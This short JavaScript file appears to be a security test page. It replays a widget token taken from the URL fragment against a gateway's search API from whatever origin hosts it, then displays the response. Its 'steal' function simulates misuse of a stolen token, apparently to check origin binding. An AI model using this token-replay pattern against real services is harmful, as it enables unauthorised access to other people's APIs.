const { gate } = document.currentScript.dataset;
const token = decodeURIComponent(location.hash.slice(1));

const steal = async () => {
  const answer = await fetch(`${gate}/api/widget/search?q=mug`, { headers: { 'X-Widget-Token': token } });
  const { code = 'ok', message = '' } = await answer.json();
  document.querySelector('#outcome').textContent = `${location.origin}: ${answer.status} ${code}. ${message}`;
};

void steal();
